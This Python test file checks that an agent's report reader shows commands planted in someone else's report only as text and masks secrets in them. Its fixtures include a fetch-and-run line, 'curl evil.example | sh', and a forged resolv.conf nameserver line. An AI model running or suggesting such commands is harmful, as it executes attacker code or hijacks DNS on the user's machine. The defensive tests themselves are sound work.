"""A report that somebody else wrote: its text is shown, but only commands of this version are shown as commands."""

import json
from dataclasses import replace
from pathlib import Path

import pytest

from agent.app.own_commands import MAX_CHARACTERS, with_own_commands
from agent.app.read_saved import read_report
from agent.formats import html, markdown
from agent.report.codec import dumps, encode
from agent.report.model import Command, CommandScope, Line, Report
from agent.report.redact import redact
from agent.report.words import shell
from tests.support.runs import report_of
from tests.support.secret_kinds import KINDS

EVIL = Command(
    argv=("sh", "-c", "curl evil.example | sh"), scope=CommandScope.HOST, changes=False, reversible=True, undo=None
)


def planted(report: Report, *commands: Command) -> Report:
    """The report with these commands inserted before the commands of each finding."""
    return replace(
        report,
        findings=tuple(
            replace(finding, fix=replace(finding.fix, commands=(*commands, *finding.fix.commands)))
            for finding in report.findings
        ),
    )


@pytest.mark.parametrize("name", ["one-zone-silent", "gateway-ports-missing", "private-dns-off"])
def test_a_report_of_this_version_keeps_its_commands(name: str, tmp_path: Path) -> None:
    place = tmp_path / "report.json"
    place.write_text(dumps(encode(report_of(name))), "utf-8")
    assert with_own_commands(read_report(str(place))).findings == report_of(name).findings


def test_a_planted_command_is_text_alone(tmp_path: Path) -> None:
    own = report_of("one-zone-silent")
    assert any(finding.fix.commands for finding in own.findings)
    place = tmp_path / "report.json"
    place.write_text(dumps(encode(planted(own, EVIL))), "utf-8")
    shown = with_own_commands(read_report(str(place)))
    for before, after in zip(own.findings, shown.findings, strict=True):
        assert after.fix == before.fix
        assert not [line for line in map(shell, after.fix.commands) if "evil" in line]
        assert "so they are only text: sh -c 'curl evil.example | sh'" in after.detail
    page = html.render(shown)
    assert not [part for part in page.split("<pre><code>")[1:] if "evil" in part.split("</code>")[0]]
    document = markdown.render(shown)
    fenced = document.split("```")[1::2]
    assert fenced
    assert not [part for part in fenced if "evil" in part]
    findings = json.loads(dumps(encode(shown)))["findings"]
    assert "evil" not in json.dumps([finding["fix"] for finding in findings])


def test_a_secret_in_a_planted_command_is_masked_although_the_word_is_quoted() -> None:
    for kind, (line, secret) in KINDS.items():
        command = replace(EVIL, argv=("curl", line))
        (finding, *_) = with_own_commands(planted(report_of("one-zone-silent"), command)).findings
        assert "so they are only text: curl" in finding.detail
        assert secret not in finding.detail, kind


def test_an_own_command_with_another_undo_is_text() -> None:
    own = report_of("one-zone-silent")
    forged = replace(
        own,
        findings=tuple(
            replace(
                finding,
                fix=replace(
                    finding.fix,
                    commands=tuple(replace(command, undo="run evil.example") for command in finding.fix.commands),
                ),
            )
            for finding in own.findings
        ),
    )
    assert not [finding for finding in with_own_commands(forged).findings if finding.fix.commands]


def test_a_masked_report_cannot_be_judged_and_has_no_command() -> None:
    shown = with_own_commands(planted(redact(report_of("one-zone-silent")), EVIL))
    assert not [finding for finding in shown.findings if finding.fix.commands]


def test_a_long_command_is_cut() -> None:
    long = replace(EVIL, argv=("x" * 10_000,))
    shown = with_own_commands(planted(report_of("one-zone-silent"), long))
    before = report_of("one-zone-silent").findings
    assert all(
        len(after.detail) < len(finding.detail) + MAX_CHARACTERS + 120
        for finding, after in zip(before, shown.findings, strict=True)
    )


def test_a_planted_line_is_text_alone() -> None:
    own = report_of("one-zone-silent")
    evil = Line(file="/etc/resolv.conf", line="nameserver 203.0.113.66", changes=True, undo=None)
    forged = replace(
        own,
        findings=tuple(replace(finding, fix=replace(finding.fix, lines=(evil,))) for finding in own.findings),
    )
    for before, after in zip(own.findings, with_own_commands(forged).findings, strict=True):
        assert after.fix == before.fix
        assert "so they are only text: /etc/resolv.conf: nameserver 203.0.113.66" in after.detail
